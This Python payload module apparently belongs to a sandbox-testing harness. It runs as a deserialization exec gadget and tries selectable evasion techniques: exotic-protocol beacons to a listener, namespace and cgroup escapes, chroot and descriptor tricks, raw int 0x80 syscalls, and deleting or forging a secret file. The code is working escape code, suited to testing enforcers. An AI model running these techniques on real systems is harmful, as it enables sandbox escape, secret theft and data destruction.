"""Payload (builtins.exec gadget): reach an objective the front door is closed to, by a side door.
PARAMS["technique"] picks the door; the harness observes the objective itself (a beacon at its
listener, the secret in the marker file, a marker only a shell could have written).

  socket-mptcp | socket-sctp   a stream socket of that protocol sends PARAMS["needle"] to
                               PARAMS["host"]:PARAMS["port"]
  socket-udplite               a UDP-Lite datagram carrying the needle to host:port
  socket-icmp                  an ICMP echo request from a datagram ("ping") socket carrying it
  socket-raw                   the same echo request from a SOCK_RAW/IPPROTO_ICMP socket
  clone-files                  a child sharing the descriptor table (clone(CLONE_FILES)) opens
                               PARAMS["secret_path"]; the parent reads it through the shared
                               descriptor after the child is gone, into PARAMS["marker"]
  unshare-exec                 a child in new user and mount namespaces binds PARAMS["shell"] over
                               PARAMS["interpreter"] and executes the interpreter's path with
                               `-c <shell command>` that writes the needle (only a shell can)
  chroot                       a child in a new user namespace chroots into PARAMS["chroot_dir"]
                               and reads the secret by its path below that root
  cgroup-escape                a child in new user, mount and cgroup namespaces mounts cgroup2,
                               creates a child cgroup and moves its parent (the server) there; the
                               parent then reads the secret into the marker
  rename                       a child renames PARAMS["rename_from"] to PARAMS["rename_to"]; the
                               parent reads the secret under its new name
  link                         a child hard-links the secret to PARAMS["link_to"]; the parent
                               reads the link
  int80                        the secret is opened and read with 32-bit syscalls (int 0x80)
  unlink | truncate            a child removes, or empties, PARAMS["secret_path"]
  replace                      a child renames PARAMS["forged_path"] (written with
                               PARAMS["forged"]) over PARAMS["secret_path"]

Every step runs in a child process where the kernel or an enforcer may kill it, so the model still
loads; errors go to stderr only (stdout is the server's readiness channel). The outcome of each
step is written to PARAMS["trace"] for the run's evidence; the harness never takes it as proof.
"""
import ctypes
import errno
import json
import mmap
import os
import socket
import struct
import sys
import time

# The interpreter links libc: its symbols need no lookup (find_library would run ldconfig).
_libc = ctypes.CDLL(None, use_errno=True)
_trace = []

CLONE_NEWNS = 0x00020000
CLONE_NEWCGROUP = 0x02000000
CLONE_NEWUSER = 0x10000000
CLONE_FILES = 0x00000400
SIGCHLD = 17
MS_BIND = 0x1000
SYS_CLONE = 56
IPPROTO_MPTCP = 262
IPPROTO_SCTP = 132
IPPROTO_UDPLITE = 136


def note(step, outcome):
    _trace.append({"step": step, "outcome": outcome})


def libc_call(step, function, *args):
    """Calls a libc function; raises OSError with its errno on -1, and notes the outcome."""
    result = function(*args)
    if result == -1:
        code = ctypes.get_errno()
        note(step, f"{errno.errorcode.get(code, code)}")
        raise OSError(code, f"{step}: {os.strerror(code)}")
    note(step, "ok")
    return result


def in_child(body):
    """Runs body() in a forked child; returns its wait status (the child ends with os._exit)."""
    pid = os.fork()
    if pid == 0:
        code = 0
        try:
            body()
        except BaseException as error:  # the child must never return into the unpickler
            print(f"evasion child: {type(error).__name__}: {error}", file=sys.stderr)
            code = 1
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    return status


def describe_status(status):
    if os.WIFSIGNALED(status):
        return f"killed by signal {os.WTERMSIG(status)}"
    return f"exit {os.WEXITSTATUS(status)}"


def read_into_marker(path):
    with open(path, "rb") as secret:
        data = secret.read()
    note("read " + path, "ok")
    with open(PARAMS["marker"], "wb") as marker:
        marker.write(data)


def icmp_echo(payload):
    header = struct.pack("!BBHHH", 8, 0, 0, os.getpid() & 0xFFFF, 1)
    total = 0
    packet = header + payload
    if len(packet) % 2:
        packet += b"\0"
    for i in range(0, len(packet), 2):
        total += (packet[i] << 8) + packet[i + 1]
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return struct.pack("!BBHHH", 8, 0, ~total & 0xFFFF, os.getpid() & 0xFFFF, 1) + payload


def beacon(kind, protocol):
    host, port = PARAMS["host"], int(PARAMS["port"])
    message = f"BEACON {PARAMS['needle']}\n".encode()
    with socket.socket(socket.AF_INET, kind, protocol) as channel:
        note(f"socket type {kind} protocol {protocol}", "ok")
        channel.settimeout(5)
        if kind == socket.SOCK_STREAM:
            channel.connect((host, port))
            channel.sendall(message)
        elif protocol in (socket.IPPROTO_ICMP,):
            channel.sendto(icmp_echo(message), (host, 0))
        else:
            channel.sendto(message, (host, port))
        note("send", "ok")


def clone_files():
    secret = PARAMS["secret_path"]
    pid = _libc.syscall(SYS_CLONE, CLONE_FILES | SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        try:
            os.open(secret, os.O_RDONLY)
        finally:
            os._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), "clone(CLONE_FILES)")
    note("clone(CLONE_FILES)", "ok")
    _, status = os.waitpid(pid, 0)
    note("child open " + secret, describe_status(status))
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            if os.readlink(f"/proc/self/fd/{fd}") != os.path.realpath(secret):
                continue
        except OSError:
            continue
        data = os.pread(int(fd), 1 << 16, 0)
        note(f"read through inherited fd {fd}", "ok")
        with open(PARAMS["marker"], "wb") as marker:
            marker.write(data)
        return
    note("inherited descriptor", "none found")


def unshare_exec():
    interpreter, shell = PARAMS["interpreter"], PARAMS["shell"]

    def child():
        libc_call("unshare(NEWUSER|NEWNS)", _libc.unshare, CLONE_NEWUSER | CLONE_NEWNS)
        libc_call("mount(MS_BIND " + shell + " over " + interpreter + ")", _libc.mount,
                  shell.encode(), interpreter.encode(), None, MS_BIND, None)
        command = f"echo {PARAMS['nonce']}-$((6*7)) > {PARAMS['marker']}"
        os.execv(interpreter, [interpreter, "-c", command])

    note("exec child", describe_status(in_child(child)))


def chroot_read():
    root = PARAMS["chroot_dir"]
    inside = "/" + os.path.relpath(PARAMS["secret_path"], root)

    def child():
        marker = os.open(PARAMS["marker"], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        libc_call("unshare(NEWUSER)", _libc.unshare, CLONE_NEWUSER)
        libc_call("chroot(" + root + ")", _libc.chroot, root.encode())
        os.chdir("/")
        with open(inside, "rb") as secret:
            os.write(marker, secret.read())
        note("read " + inside + " below the new root", "ok")

    note("chroot child", describe_status(in_child(child)))


def cgroup_escape():
    server = os.getpid()
    mount_point = PARAMS["scratch"]

    def child():
        libc_call("unshare(NEWUSER|NEWNS|NEWCGROUP)", _libc.unshare,
                  CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)
        os.makedirs(mount_point, exist_ok=True)
        libc_call("mount(cgroup2)", _libc.mount, b"none", mount_point.encode(), b"cgroup2", 0,
                  None)
        escape = os.path.join(mount_point, "escape")
        os.makedirs(escape, exist_ok=True)
        with open(os.path.join(escape, "cgroup.procs"), "w") as procs:
            procs.write(str(server))
        note("moved the server into a child cgroup", "ok")

    note("cgroup child", describe_status(in_child(child)))
    with open("/proc/self/cgroup") as cgroups:
        note("server cgroup now", cgroups.read().strip().splitlines()[-1])
    read_into_marker(PARAMS["secret_path"])


def rename_read():
    source, target = PARAMS["rename_from"], PARAMS["rename_to"]
    note("rename child", describe_status(in_child(lambda: os.rename(source, target))))
    read_into_marker(target + PARAMS["secret_path"][len(source):])


def link_read():
    target = PARAMS["link_to"]
    note("link child", describe_status(in_child(lambda: os.link(PARAMS["secret_path"], target))))
    read_into_marker(target)


def unlink_secret():
    note("unlink child", describe_status(in_child(lambda: os.unlink(PARAMS["secret_path"]))))


def truncate_secret():
    note("truncate child",
         describe_status(in_child(lambda: os.truncate(PARAMS["secret_path"], 0))))


def replace_secret():
    forged = PARAMS["forged_path"]
    with open(forged, "w") as out:
        out.write(PARAMS["forged"])
    note("replace child",
         describe_status(in_child(lambda: os.rename(forged, PARAMS["secret_path"]))))


# int 0x80 with eax = nr: open(5), read(3). Arguments go in ebx, ecx, edx; the path and the
# buffer live in a MAP_32BIT mapping so their addresses fit a 32-bit register.
def int80():
    code = bytes([
        0x53,              # push rbx
        0x89, 0xf8,        # mov eax, edi   nr
        0x89, 0xf3,        # mov ebx, esi   a1
        0x89, 0xd7,        # mov edi, edx   keep a2
        0x89, 0xca,        # mov edx, ecx   a3
        0x89, 0xf9,        # mov ecx, edi   a2
        0xcd, 0x80,        # int 0x80
        0x5b,              # pop rbx
        0xc3,              # ret
    ])
    MAP_32BIT = 0x40
    text = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT,
                     prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    data = mmap.mmap(-1, 1 << 16, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT)
    text.write(code)
    base = ctypes.addressof(ctypes.c_char.from_buffer(text))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_uint,
                            ctypes.c_uint)(base)
    buffer = ctypes.addressof(ctypes.c_char.from_buffer(data))
    path = PARAMS["secret_path"].encode() + b"\0"
    ctypes.memmove(buffer, path, len(path))
    def child():
        fd = call(5, buffer, 0, 0)
        note("int 0x80 open", str(fd))
        if fd < 0:
            return
        count = call(3, fd, buffer + 4096, 4096)
        note("int 0x80 read", str(count))
        if count > 0:
            with open(PARAMS["marker"], "wb") as marker:
                marker.write(ctypes.string_at(buffer + 4096, count))

    note("int 0x80 child", describe_status(in_child(child)))


TECHNIQUES = {
    "socket-mptcp": lambda: beacon(socket.SOCK_STREAM, IPPROTO_MPTCP),
    "socket-sctp": lambda: beacon(socket.SOCK_STREAM, IPPROTO_SCTP),
    "socket-udplite": lambda: beacon(socket.SOCK_DGRAM, IPPROTO_UDPLITE),
    "socket-icmp": lambda: beacon(socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    "socket-raw": lambda: beacon(socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "clone-files": clone_files,
    "unshare-exec": unshare_exec,
    "chroot": chroot_read,
    "cgroup-escape": cgroup_escape,
    "rename": rename_read,
    "link": link_read,
    "int80": int80,
    "unlink": unlink_secret,
    "truncate": truncate_secret,
    "replace": replace_secret,
}

try:
    TECHNIQUES[PARAMS["technique"]]()
except Exception as error:
    note("technique", f"{type(error).__name__}: {error}")
    print(f"evasion {PARAMS['technique']}: {type(error).__name__}: {error}", file=sys.stderr)
finally:
    try:
        with open(PARAMS["trace"], "w") as trace:
            json.dump(_trace, trace)
    except OSError:
        pass
